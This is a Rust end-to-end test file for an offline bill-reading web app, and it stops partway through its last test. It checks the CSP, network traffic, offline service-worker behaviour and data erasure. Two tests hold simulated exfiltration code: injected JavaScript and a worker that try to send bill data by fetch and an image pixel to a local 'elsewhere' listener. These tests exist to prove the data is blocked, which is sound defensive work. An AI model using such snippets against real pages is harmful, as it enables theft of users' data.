//! End-to-end proof of "nothing leaves this device", and of the app working offline.
//!
//! The built site (`dist/`) served under a sub-path, driven in real Chromium: the
//! Content-Security-Policy of the built page, what the browser sends during a whole visit,
//! the service worker (offline after one visit, a new version announced and loaded on
//! request). Ignored by a plain `cargo test`; `make test-e2e` runs them.

// A test fails by panicking: the lints that keep panics out of the app stay out of here.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::arithmetic_side_effects
)]
#![cfg(not(target_arch = "wasm32"))]

mod support;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use base64::Engine;
use fantoccini::Locator;
use sha2::{Digest, Sha256};
use support::{dist_dir, fixture, open_app, Browser, BrowserOptions, StaticServer, BASE, PATIENCE};
/// A bill other than the sample, uploaded as a person would.
const FIXTURE_BILL: &str = "bills/free-box-2026-10";

async fn read_count(browser: &Browser, count: usize, what: &str) {
    browser
        .wait_until(
            &format!(
                "return document.querySelectorAll('.upload[data-status=read]').length === {count}"
            ),
            what,
            PATIENCE,
        )
        .await;
}

/// Reads the sample bill, then uploads the fixture bill: two bills read.
async fn read_sample_and_fixture(browser: &Browser) {
    browser.click("#sample-button").await;
    read_count(browser, 1, "the sample bill to be read").await;
    let input = browser
        .client
        .find(Locator::Css("#file-input"))
        .await
        .expect("file input");
    input
        .send_keys(&fixture(&format!("{FIXTURE_BILL}.pdf")))
        .await
        .expect("pick a file");
    read_count(browser, 2, "the uploaded bill to be read").await;
}

/// Waits until a service worker controls the page (the first visit is then cached).
async fn wait_for_service_worker(browser: &Browser) {
    browser
        .wait_until(
            "return !!(navigator.serviceWorker && navigator.serviceWorker.controller \
               && navigator.serviceWorker.controller.state === 'activated')",
            "the service worker to control the page",
            PATIENCE,
        )
        .await;
}

/// The Content-Security-Policy `<meta>` of a page, and the inline scripts of that page.
fn csp_and_inline_scripts(html: &str) -> (String, Vec<String>) {
    let marker = "<meta http-equiv=\"Content-Security-Policy\" content=\"";
    let start = html.find(marker).expect("a CSP <meta> in index.html") + marker.len();
    let csp = html[start..][..html[start..].find('"').unwrap()].to_string();
    let mut scripts = Vec::new();
    let mut rest = html;
    while let Some(open) = rest.find("<script") {
        let tag_end = open + rest[open..].find('>').unwrap();
        let close = tag_end + rest[tag_end..].find("</script>").unwrap();
        if !rest[open..tag_end].contains("src=") {
            scripts.push(rest[tag_end + 1..close].to_string());
        }
        rest = &rest[close..];
    }
    (csp, scripts)
}

fn directives(csp: &str) -> Vec<(String, Vec<String>)> {
    csp.split(';')
        .map(str::trim)
        .filter(|d| !d.is_empty())
        .map(|d| {
            let mut words = d.split_whitespace().map(String::from);
            (words.next().unwrap(), words.collect())
        })
        .collect()
}

#[test]
#[ignore = "needs the built dist/: run through `make test`"]
fn the_csp_of_the_built_page_allows_its_own_inline_scripts_and_nothing_else() {
    let html = std::fs::read_to_string(dist_dir().join("index.html")).unwrap();
    // First in <head> (the minified page has no <head> tag: right after <html>).
    let after_html = &html[html.find("<html").unwrap()..];
    let first = &after_html[after_html.find('>').unwrap() + 1..];
    let first = first.strip_prefix("<head>").unwrap_or(first);
    assert!(
        first.starts_with("<meta http-equiv=\"Content-Security-Policy\""),
        "the CSP is the first element of <head>: {}",
        &first[..first.len().min(120)]
    );

    let (csp, scripts) = csp_and_inline_scripts(&html);
    assert!(!scripts.is_empty(), "Trunk's bootstrap is an inline script");
    let hashes: BTreeSet<String> = scripts
        .iter()
        .map(|s| {
            let digest = Sha256::digest(s.as_bytes());
            format!(
                "'sha256-{}'",
                base64::engine::general_purpose::STANDARD.encode(digest)
            )
        })
        .collect();
    let expected: Vec<(&str, Vec<String>)> = vec![
        ("default-src", vec!["'none'".into()]),
        (
            "script-src",
            std::iter::once("'self'".to_string())
                .chain(hashes.iter().cloned())
                .chain(std::iter::once("'wasm-unsafe-eval'".to_string()))
                .collect(),
        ),
        ("connect-src", vec!["'self'".into()]),
        ("worker-src", vec!["'self'".into()]),
        ("style-src", vec!["'self'".into()]),
        ("img-src", vec!["'self'".into()]),
        ("manifest-src", vec!["'self'".into()]),
        ("base-uri", vec!["'none'".into()]),
        ("form-action", vec!["'none'".into()]),
        ("object-src", vec!["'none'".into()]),
    ];
    let found = directives(&csp);
    let found: Vec<(&str, Vec<String>)> = found
        .iter()
        .map(|(name, values)| {
            let mut values = values.clone();
            let last = values.len().saturating_sub(1);
            if name == "script-src" && last > 1 {
                // Hashes in any order, between 'self' and 'wasm-unsafe-eval'.
                values[1..last].sort();
            }
            (name.as_str(), values)
        })
        .collect();
    assert_eq!(found, expected, "{csp}");

    // Trunk's subresource integrity is kept on every script and stylesheet it links.
    for tag in html
        .split('<')
        .filter(|t| t.starts_with("link") && (t.contains("stylesheet") || t.contains("preload")))
    {
        assert!(tag.contains("integrity=sha384-"), "no integrity: <{tag}");
    }
    // The page holds no style attribute (the CSP would block it).
    assert!(!html.contains(" style="), "a style attribute in index.html");
}

/// A second local server that must receive nothing: it counts connections.
struct Listener {
    port: u16,
    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl Listener {
    fn start() -> Listener {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counted = hits.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                drop(stream);
            }
        });
        Listener { port, hits }
    }

    fn hits(&self) -> usize {
        self.hits.load(std::sync::atomic::Ordering::SeqCst)
    }
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn the_csp_blocks_what_an_injected_script_would_send_elsewhere() {
    let server = StaticServer::start(&dist_dir(), BASE);
    let elsewhere = Listener::start();
    let browser = Browser::start_with(
        1280,
        900,
        BrowserOptions {
            network_log: true,
            ..BrowserOptions::default()
        },
    )
    .await;
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#sample-button").await;
    browser.click("#sample-button").await;
    read_count(&browser, 1, "the sample bill to be read").await;

    // What a malicious script in the page would try: send the bill elsewhere by fetch, by
    // an image, and run code of its own.
    let outcome = browser
        .client
        .execute_async(
            "const [port, done] = arguments;\
             const violations = [];\
             document.addEventListener('securitypolicyviolation',\
               e => violations.push(e.effectiveDirective + ' ' + e.blockedURI));\
             const bill = document.querySelector('.upload').innerText;\
             const img = document.createElement('img');\
             img.src = `http://127.0.0.1:${port}/pixel.png?bill=${encodeURIComponent(bill.slice(0, 200))}`;\
             document.body.append(img);\
             const script = document.createElement('script');\
             script.textContent = 'window.injected = true';\
             document.body.append(script);\
             fetch(`http://127.0.0.1:${port}/collect`, {method: 'POST', body: bill, mode: 'no-cors'})\
               .then(() => 'sent', error => error.name)\
               .then(fetched => setTimeout(() => done({fetched, violations,\
                 injected: window.injected === true}), 300));",
            vec![serde_json::json!(elsewhere.port)],
        )
        .await
        .unwrap();
    assert_eq!(outcome["fetched"], "TypeError", "{outcome}");
    assert_eq!(
        outcome["injected"], false,
        "the injected script ran: {outcome}"
    );
    let violations: Vec<String> = serde_json::from_value(outcome["violations"].clone()).unwrap();
    for directive in ["connect-src", "img-src", "script-src-elem"] {
        assert!(
            violations.iter().any(|v| v.starts_with(directive)),
            "{directive} was violated and reported: {violations:?}"
        );
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        elsewhere.hits(),
        0,
        "the other server received a connection"
    );
    // The console says so too (what the whole-visit test checks never happens).
    let console = browser.console_messages().await;
    assert!(
        console
            .iter()
            .filter(|m| m.contains("Content Security Policy"))
            .count()
            >= 3,
        "{console:#?}"
    );
    browser.close().await;
}

/// What a bill holds that must never travel: the invoice number, customer id, line
/// numbers, totals (in both notations) and called numbers of the sample and the fixture.
fn bill_markers() -> Vec<String> {
    let mut markers = Vec::new();
    for name in ["bills/sample-orange-mobile", FIXTURE_BILL] {
        let text = std::fs::read_to_string(fixture(&format!("{name}.expected.json"))).unwrap();
        let bill: serde_json::Value = serde_json::from_str(&text).unwrap();
        for key in ["invoice_number", "customer_id", "total", "total_ht"] {
            if let Some(value) = bill[key].as_str() {
                markers.push(value.to_string());
                markers.push(value.replace('.', ","));
            }
        }
        for line in bill["line_numbers"].as_array().into_iter().flatten() {
            let line = line.as_str().unwrap();
            markers.push(line.to_string());
            markers.push(line.replace(' ', ""));
        }
        for call in bill["usage"].as_array().into_iter().flatten() {
            markers.push(call["destination"].as_str().unwrap().to_string());
        }
    }
    markers.retain(|m| m.len() >= 5);
    markers.sort();
    markers.dedup();
    assert!(markers.len() >= 10, "{markers:?}");
    markers
}

/// Request lines received by the server, with their status.
type Requests = Vec<(String, u16)>;

/// Chromium's own background connections, which it opens whatever the page (the proxy
/// sees some even before the page is opened): a TLS tunnel to one of these hosts, which
/// carries nothing the page could put in it (the page's CSP allows only its own origin,
/// checked above). Anything else that is not the app's fails the test.
fn chromium_calling_home(request: &str) -> bool {
    // Google's services (component updater, accounts, autofill, safe browsing, time…) and
    // the search engine Debian's Chromium preconnects to.
    const DOMAINS: [&str; 4] = [
        ".google.com",
        ".googleapis.com",
        ".gvt1.com",
        ".gstatic.com",
    ];
    const HOSTS: [&str; 1] = ["start.duckduckgo.com"];
    request
        .strip_prefix("CONNECT ")
        .and_then(|target| target.strip_suffix(":443"))
        .is_some_and(|host| HOSTS.contains(&host) || DOMAINS.iter().any(|d| host.ends_with(d)))
}

/// The size of what the server sent for a logged request line, from the served folder.
fn served_size(root: &Path, request: &str) -> u64 {
    let target = request.split(' ').nth(1).unwrap_or("");
    let path = target.split_once(BASE).map(|(_, p)| p).unwrap_or("");
    let path = path.split(['?', '#']).next().unwrap_or("");
    let file = if path.is_empty() { "index.html" } else { path };
    std::fs::metadata(root.join(file))
        .map(|m| m.len())
        .unwrap_or(0)
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn a_whole_visit_sends_nothing_but_requests_for_the_app_itself() {
    let dist = dist_dir();
    let server = StaticServer::start(&dist, BASE);
    let origin = format!("http://127.0.0.1:{}", server.port);
    // Every request of the browser goes through the site's own server (see proxy_args),
    // and the page's are also recorded by DevTools with their headers and bodies.
    // Chromium's own calls home that a page can trigger (autofill votes on forms,
    // translation, safe browsing…) are switched off: they are the browser's, not the app's.
    let mut args = server.proxy_args();
    args.extend([
        "--disable-features=AutofillServerCommunication,Translate,OptimizationHints,MediaRouter"
            .to_string(),
        "--disable-domain-reliability".to_string(),
        "--disable-client-side-phishing-detection".to_string(),
        "--safebrowsing-disable-auto-update".to_string(),
    ]);
    let browser = Browser::start_with(
        1280,
        900,
        BrowserOptions {
            network_log: true,
            args,
        },
    )
    .await;
    // What the browser's own start page loaded is not the app's doing: left out.
    browser.client.goto("about:blank").await.unwrap();
    browser.network_events().await;
    // Likewise for what Chromium asks at start-up (its component updater, its search
    // engine, Google accounts: the proxy sees them all): the visit starts here.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let start = server.requests().len();
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#sample-button").await;
    wait_for_service_worker(&browser).await;
    // Everything is fetched once the service worker has precached the app.
    let first_load = server.requests().split_off(start);

    read_sample_and_fixture(&browser).await;
    browser.click("li.finding button.contest-finding").await;
    browser.wait_for("#case-title").await;
    let reference = "TK-PRIV-4242";
    browser
        .client
        .find(Locator::Css(".event-form label:nth-child(5) input"))
        .await
        .unwrap()
        .send_keys(reference)
        .await
        .unwrap();
    browser.click(".event-form button[type=submit]").await;
    browser
        .wait_until(
            "return document.querySelectorAll('.events .event').length === 1",
            "the exchange to be listed",
            PATIENCE,
        )
        .await;
    // Every view, so that any of them doing something the CSP refuses shows in the console.
    for tab in ["#tab-plan", "#tab-bank", "#tab-cases", "#tab-bills"] {
        browser.click(tab).await;
    }
    browser.click("#tab-data").await;
    browser.wait_for("#stored-meter").await;
    browser.click("#export").await;
    let exported = browser.downloaded("json").await;
    let export = std::fs::read_to_string(&exported).unwrap();
    let markers = bill_markers();
    // The export holds the bill data: the markers are the right ones to look for.
    for marker in ["6812345901", reference] {
        assert!(export.contains(marker), "{marker} is in the export");
    }
    tokio::time::sleep(Duration::from_millis(500)).await;

    // 1. DevTools: every request of the page.
    let events = browser.network_events().await;
    let requests: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e.method == "Network.requestWillBeSent")
        .map(|e| &e.params["request"])
        .collect();
    assert!(
        requests
            .iter()
            .any(|r| r["url"].as_str().unwrap_or("").ends_with("_bg.wasm")),
        "the recorder saw the page's requests: {requests:?}"
    );
    for request in &requests {
        let url = request["url"].as_str().unwrap_or("");
        let local = url.starts_with(&format!("{origin}{BASE}"))
            || url.starts_with(&format!("blob:{origin}/"))
            || url.starts_with("data:");
        assert!(local, "a request left the app's origin: {request}");
        assert_eq!(request["method"], "GET", "{request}");
        assert!(
            request.get("hasPostData").is_none() && request.get("postData").is_none(),
            "a request carries a body: {request}"
        );
        let text = request.to_string();
        for marker in &markers {
            assert!(
                !text.contains(marker.as_str()),
                "{marker} sent in {request}"
            );
        }
        assert!(!text.contains(reference), "{reference} sent in {request}");
    }
    // Nothing the app does was refused by its own CSP.
    let console = browser.console_messages().await;
    assert!(
        !console
            .iter()
            .any(|m| m.contains("Content Security Policy") || m.contains("Refused to")),
        "{console:#?}"
    );
    for event in &events {
        assert!(
            !event.method.starts_with("Network.webSocket")
                && !event.method.starts_with("Network.eventSource"),
            "{}: {}",
            event.method,
            event.params
        );
    }

    // 2. The server: everything that left the browser, from any context (page, parse
    // worker, service worker, the browser itself), came to it, for the app's own files.
    let (browser_own, log): (Requests, Requests) = server
        .requests()
        .split_off(start)
        .into_iter()
        .partition(|(request, _)| chromium_calling_home(request));
    println!("Chromium's own connections during the visit: {browser_own:?}");
    for (request, status) in &log {
        assert!(
            request.starts_with(&format!("GET {origin}{BASE}")),
            "a request for something else than the app: {request} ({status})"
        );
        for marker in &markers {
            assert!(
                !request.contains(marker.as_str()),
                "{marker} sent: {request}"
            );
        }
    }
    let failed: Vec<_> = log.iter().filter(|(_, status)| *status != 200).collect();
    assert!(failed.is_empty(), "{failed:?}");
    assert!(
        log.iter().any(|(r, _)| r.ends_with("worker_bg.wasm")),
        "the parse worker's requests are seen: {log:?}"
    );

    // For the record: what the first visit downloads.
    let mut total = 0;
    println!("First load: {} requests", first_load.len());
    for (request, status) in &first_load {
        let size = served_size(&dist, request);
        total += size;
        println!(
            "  {status} {:>9} B  {}",
            size,
            request.replace(&format!("{origin}{BASE}"), BASE)
        );
    }
    println!("  total {total} B");
    browser.close().await;
}

/// A copy of the built site, to change between two visits.
struct SiteCopy(PathBuf);

impl SiteCopy {
    fn new(tag: &str) -> SiteCopy {
        let dir = std::env::temp_dir().join(format!(
            "contestel-site-{tag}-{}-{}",
            std::process::id(),
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .as_nanos()
        ));
        std::fs::create_dir_all(&dir).unwrap();
        for entry in std::fs::read_dir(dist_dir()).unwrap().flatten() {
            if entry.path().is_file() {
                std::fs::copy(entry.path(), dir.join(entry.file_name())).unwrap();
            }
        }
        SiteCopy(dir)
    }

    /// Replaces `from` by `to` in one file of the copy (`from` must be there).
    fn edit(&self, file: &str, from: &str, to: &str) {
        let path = self.0.join(file);
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains(from), "{from:?} in {file}");
        std::fs::write(&path, text.replacen(from, to, 1)).unwrap();
    }
}

impl Drop for SiteCopy {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn after_one_visit_the_app_loads_and_reads_bills_with_the_server_stopped() {
    let (server, browser) = open_app(1280, 900).await;
    wait_for_service_worker(&browser).await;

    server.stop();
    let refused = std::net::TcpStream::connect(("127.0.0.1", server.port));
    assert!(refused.is_err(), "the server still accepts connections");
    let served = server.requests().len();

    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#sample-button").await;
    // The network is really gone for the page: a file that is not cached fails.
    let probe = browser
        .client
        .execute_async(
            "const done = arguments[0];\
             fetch('./not-cached-' + Date.now()).then(r => done('status ' + r.status), e => done(e.name));",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(probe, "TypeError", "the site is unreachable");
    read_sample_and_fixture(&browser).await;
    // Two bills read: each is folded under its summary; unfold them.
    browser
        .client
        .execute(
            "document.querySelectorAll('details.bill-details').forEach(d => d.open = true)",
            vec![],
        )
        .await
        .unwrap();
    let text = browser.text(".upload-list").await;
    assert!(
        text.contains("6812345901"),
        "the uploaded bill is shown:\n{text}"
    );
    assert_eq!(
        server.requests().len(),
        served,
        "nothing reached the server"
    );
    browser.screenshot("offline-two-bills-1280").await;
    browser.close().await;
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn a_new_version_is_announced_and_loaded_when_the_person_asks() {
    let site = SiteCopy::new("update");
    // At a domain's root, as from a custom domain (the other tests use a sub-path).
    let server = StaticServer::start(&site.0, "/");
    let browser = Browser::start(1280, 900).await;
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#sample-button").await;
    wait_for_service_worker(&browser).await;
    assert!(
        browser
            .client
            .find(Locator::Css("#update-banner"))
            .await
            .is_err(),
        "no banner on the first visit"
    );

    // A new version is published: another service worker, and a page that says so.
    let sw = std::fs::read_to_string(site.0.join("sw.js")).unwrap();
    let version = sw
        .lines()
        .find_map(|l| l.strip_prefix("const VERSION = \""))
        .and_then(|l| l.strip_suffix("\";"))
        .expect("the version line of sw.js")
        .to_string();
    site.edit("sw.js", &version, "0000000000000002");
    site.edit("index.html", "<title>", "<title>v2 ");
    // Issue 32: the banner came during the very first visit. The page of a first visit
    // came from the network: whatever is published while it is open, it announces
    // nothing, even back in the foreground (where a later visit's page looks for one).
    for _ in 0..10 {
        browser
            .client
            .execute(
                "document.dispatchEvent(new Event('visibilitychange'))",
                vec![],
            )
            .await
            .unwrap();
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    assert!(
        browser
            .client
            .find(Locator::Css("#update-banner"))
            .await
            .is_err(),
        "no banner during the first visit"
    );

    // The next visit is served by the installed version, which learns of the new one.
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#update-banner").await;
    let banner = browser.text("#update-banner").await;
    let banner = banner.split_whitespace().collect::<Vec<_>>().join(" ");
    assert_eq!(banner, "Nouvelle version disponible — recharger");
    let title = browser.client.title().await.unwrap();
    assert!(!title.starts_with("v2"), "still the old page: {title}");
    browser.screenshot("update-banner-1280").await;

    browser.click("#update-reload").await;
    browser
        .wait_until(
            "return document.title.startsWith('v2') && !!document.querySelector('#sample-button')",
            "the new version to be loaded",
            PATIENCE,
        )
        .await;
    assert!(
        browser
            .client
            .find(Locator::Css("#update-banner"))
            .await
            .is_err(),
        "no banner once updated"
    );
    // Only the new version's cache is left.
    let caches = browser
        .client
        .execute_async(
            "const done = arguments[0]; caches.keys().then(done);",
            vec![],
        )
        .await
        .unwrap();
    let caches: Vec<String> = serde_json::from_value(caches).unwrap();
    assert_eq!(caches.len(), 1, "{caches:?}");
    assert!(caches[0].ends_with(":0000000000000002"), "{caches:?}");
    browser.close().await;
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn the_data_panel_shows_what_is_stored_and_erases_it_after_confirmation() {
    let (_server, browser) = open_app(1280, 900).await;
    read_sample_and_fixture(&browser).await;
    browser.click("#tab-data").await;
    let bills_size = "const cell = document.querySelector('tr[data-kind=bills] td');";
    browser
        .wait_until(
            &format!("{bills_size} return !!cell && /[km]/i.test(cell.textContent)"),
            "the bills' size in kB",
            PATIENCE,
        )
        .await;
    let panel = browser.text(".stored").await;
    for label in [
        "Dossiers et échanges",
        "Forfaits",
        "Factures lues",
        "Total dans le stockage local",
        "sur 5,2 Mo",
    ] {
        assert!(panel.contains(label), "{label}:\n{panel}");
    }
    browser.wait_for("#site-estimate").await;
    let stored = "return Object.keys(localStorage).filter(k => k.startsWith('contestel.'))\
        .map(k => localStorage.getItem(k)).join('')";
    let before = browser.client.execute(stored, vec![]).await.unwrap();
    assert!(
        before.as_str().unwrap().contains("6812345901"),
        "the bill is stored"
    );
    browser.screenshot("data-panel-1280").await;

    // Refusing the confirmation keeps everything.
    browser.click("#erase-all").await;
    let question = browser.client.get_alert_text().await.unwrap();
    assert!(question.contains("Effacer définitivement"), "{question}");
    browser.client.dismiss_alert().await.unwrap();
    let kept = browser.client.execute(stored, vec![]).await.unwrap();
    assert_eq!(kept, before);

    browser.click("#erase-all").await;
    browser.client.accept_alert().await.unwrap();
    browser.wait_for("#data-notice").await;
    browser
        .wait_until(
            &format!("{bills_size} return !!cell && !/[km]/i.test(cell.textContent)"),
            "the bills' size to drop",
            PATIENCE,
        )
        .await;
    let after = browser.client.execute(stored, vec![]).await.unwrap();
    let after = after.as_str().unwrap();
    for marker in bill_markers() {
        assert!(!after.contains(&marker), "{marker} still stored: {after}");
    }
    browser.close().await;
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn on_a_host_that_caches_like_github_pages_the_first_visit_downloads_each_file_once() {
    let dist = dist_dir();
    let server = StaticServer::start_with_cache_control(&dist, BASE, "max-age=600");
    let browser = Browser::start(1280, 900).await;
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#sample-button").await;
    wait_for_service_worker(&browser).await;
    let log = server.requests();
    let mut seen = BTreeSet::new();
    let mut total = 0;
    println!("First load, GitHub Pages caching: {} requests", log.len());
    for (request, status) in &log {
        let size = served_size(&dist, request);
        total += size;
        println!("  {status} {size:>9} B  {request}");
        // Names with Trunk's hash never change content: the service worker takes them from
        // the HTTP cache. The others are fetched afresh (a few small files).
        let hashed = request
            .rsplit('/')
            .next()
            .and_then(|name| name.split('.').next())
            .and_then(|stem| stem.trim_end_matches("_bg").rsplit('-').next())
            .is_some_and(|hash| hash.len() >= 12 && hash.bytes().all(|b| b.is_ascii_hexdigit()));
        assert!(
            seen.insert(request.clone()) || !hashed,
            "downloaded twice: {request}"
        );
    }
    println!("  total {total} B");
    browser.close().await;
}

/// A worker script that tries to send something elsewhere and says how it went.
const PROBE_WORKER: &str = "onmessage = (event) => fetch(event.data, {method: 'POST', \
    body: 'invoice 6812345901', mode: 'no-cors'}).then(() => postMessage('sent'), \
    (error) => postMessage(error.name));";

async fn probe_from_worker(browser: &Browser, target: &str) -> String {
    let outcome = browser
        .client
        .execute_async(
            "const [target, done] = arguments;\
             const worker = new Worker('./probe-worker.js');\
             worker.onmessage = (event) => { done(event.data); worker.terminate(); };\
             worker.onerror = (event) => done('error ' + event.message);\
             worker.postMessage(target);",
            vec![serde_json::json!(target)],
        )
        .await
        .unwrap();
    outcome.as_str().unwrap_or_default().to_string()
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn the_service_worker_refuses_what_a_worker_would_send_elsewhere() {
    let site = SiteCopy::new("probe");
    std::fs::write(site.0.join("probe-worker.js"), PROBE_WORKER).unwrap();
    let server = StaticServer::start(&site.0, BASE);
    let elsewhere = Listener::start();
    let target = format!("http://127.0.0.1:{}/collect", elsewhere.port);
    let browser = Browser::start(1280, 900).await;
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#sample-button").await;

    // Before the service worker controls the page, a worker answers to its own response's
    // CSP, not the page's <meta> (none here, as on GitHub Pages): it can reach elsewhere.
    let before = probe_from_worker(&browser, &target).await;
    println!(
        "a worker's request elsewhere, before the service worker: {before}, {} connection(s)",
        elsewhere.hits()
    );

    wait_for_service_worker(&browser).await;
    let hits = elsewhere.hits();
    let after = probe_from_worker(&browser, &target).await;
    assert_eq!(after, "TypeError", "refused by the service worker");
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(elsewhere.hits(), hits, "nothing reached the other server");
    browser.close().await;
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn the_data_panel_fits_a_phone_screen() {
    let (_server, browser) = open_app(360, 740).await;
    browser.click("#sample-button").await;
    read_count(&browser, 1, "the sample bill to be read").await;
    browser.click("#tab-data").await;
    browser.wait_for("#site-estimate").await;
    let (spill, wide) = browser.horizontal_overflow().await;
    assert_eq!(
        spill, 0,
        "no horizontal scrolling at 360 px; too wide: {wide}"
    );
    browser.screenshot("data-panel-360").await;
    browser.close().await;
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn the_app_can_be_installed() {
    let (server, browser) = open_app(1280, 900).await;
    wait_for_service_worker(&browser).await;
    let manifest = browser
        .devtools("Page.getAppManifest", serde_json::json!({}))
        .await;
    assert_eq!(manifest["errors"], serde_json::json!([]), "{manifest:#}");
    let app = &manifest["manifest"];
    // Scoped to the folder it is served from, so two apps on one origin stay apart.
    assert_eq!(app["startUrl"], server.url().as_str(), "{app:#}");
    assert_eq!(app["scope"], server.url().as_str(), "{app:#}");
    assert_eq!(app["id"], server.url().as_str(), "{app:#}");
    let sizes: Vec<&str> = app["icons"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|icon| icon["sizes"].as_str())
        .collect();
    assert!(
        sizes.contains(&"192x192") && sizes.contains(&"512x512"),
        "{sizes:?}"
    );
    let installability = browser
        .devtools("Page.getInstallabilityErrors", serde_json::json!({}))
        .await;
    assert_eq!(
        installability["installabilityErrors"],
        serde_json::json!([]),
        "{installability:#}"
    );
    browser.close().await;
}

/// Runs `tools/postbuild.py` on a staging folder holding `index.html` and a few files, as
/// Trunk does; returns whether it succeeded, and what it said.
fn postbuild(index: &str, files: &[(&str, &str)]) -> (bool, String, PathBuf) {
    let dir = std::env::temp_dir().join(format!(
        "contestel-postbuild-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("index.html"), index).unwrap();
    for (name, content) in files {
        std::fs::write(dir.join(name), content).unwrap();
    }
    let (ok, said) = rerun_postbuild(&dir);
    (ok, said, dir)
}

fn rerun_postbuild(dir: &Path) -> (bool, String) {
    let output = std::process::Command::new("python3")
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tools/postbuild.py"))
        .env("TRUNK_STAGING_DIR", dir)
        .output()
        .expect("python3 runs tools/postbuild.py");
    let said = String::from_utf8_lossy(&output.stdout).to_string()
        + &String::from_utf8_lossy(&output.stderr);
    (output.status.success(), said)
}

const BOOTSTRAP: &str = "<script type=module>import init from './app-0123456789abcdef.js';\
    await init({ module_or_path: './app-0123456789abcdef_bg.wasm' });</script>";

fn page(head: &str) -> String {
    format!("<!doctype html><html lang=fr><meta charset=utf-8><title>t</title>{head}<body></body></html>")
}

#[test]
fn the_post_build_hook_hashes_the_bootstrap_and_lists_every_file_for_the_service_worker() {
    let wasm = [
        ("app-0123456789abcdef_bg.wasm", "wasm"),
        ("worker.js", "js"),
    ];
    let (ok, said, dir) = postbuild(&page(BOOTSTRAP), &wasm);
    assert!(ok, "{said}");
    let html = std::fs::read_to_string(dir.join("index.html")).unwrap();
    let (csp, scripts) = csp_and_inline_scripts(&html);
    assert!(html
        .starts_with("<!doctype html><html lang=fr><meta http-equiv=\"Content-Security-Policy\""));
    let digest = Sha256::digest(scripts[0].as_bytes());
    let hash = base64::engine::general_purpose::STANDARD.encode(digest);
    assert!(
        csp.contains(&format!(
            "script-src 'self' 'sha256-{hash}' 'wasm-unsafe-eval'"
        )),
        "{csp}"
    );
    let sw = std::fs::read_to_string(dir.join("sw.js")).unwrap();
    assert!(
        sw.contains(
            r#"const FILES = ["app-0123456789abcdef_bg.wasm", "index.html", "worker.js"];"#
        ),
        "{sw}"
    );
    let version = |sw: &str| {
        sw.lines()
            .find(|l| l.starts_with("const VERSION = "))
            .unwrap()
            .to_string()
    };
    let first = version(&sw);

    // Run again on the same page (the hook must run once per build): refused.
    let (ok, said) = rerun_postbuild(&dir);
    assert!(!ok && said.contains("run twice"), "{said}");

    // Same files, same version; one byte changed in any file, another version.
    let (_, _, same) = postbuild(&page(BOOTSTRAP), &wasm);
    assert_eq!(
        version(&std::fs::read_to_string(same.join("sw.js")).unwrap()),
        first
    );
    let (_, _, changed) = postbuild(&page(BOOTSTRAP), &[wasm[0], ("worker.js", "js!")]);
    assert_ne!(
        version(&std::fs::read_to_string(changed.join("sw.js")).unwrap()),
        first
    );
    for d in [dir, same, changed] {
        let _ = std::fs::remove_dir_all(d);
    }
}

#[test]
fn the_post_build_hook_fails_the_build_on_a_page_it_does_not_expect() {
    let wasm = [("app-0123456789abcdef_bg.wasm", "wasm")];
    let autoreload = "<script>const url = base + '.well-known/trunk/ws';</script>";
    let cases = [
        (page(""), "no inline script"),
        (page(&format!("{BOOTSTRAP}{autoreload}")), "autoreload"),
        (
            page(&format!("{BOOTSTRAP}<p style=\"color:red\">x</p>")),
            "style attribute",
        ),
        (
            page("<script>alert(1)</script>"),
            "neither Trunk's bootstrap nor the first screen's",
        ),
    ];
    for (html, reason) in cases {
        let (ok, said, dir) = postbuild(&html, &wasm);
        assert!(!ok && said.contains(reason), "{reason}: {said}");
        let _ = std::fs::remove_dir_all(dir);
    }
    let (ok, said, dir) = postbuild(&page(BOOTSTRAP), &[]);
    assert!(!ok && said.contains(".wasm"), "{said}");
    let _ = std::fs::remove_dir_all(dir);

    // The first screen's own script (index.html) is the one other script allowed: hashed
    // with the bootstrap.
    let shell = "<script>window.contestelPending = { files: [] };</script>";
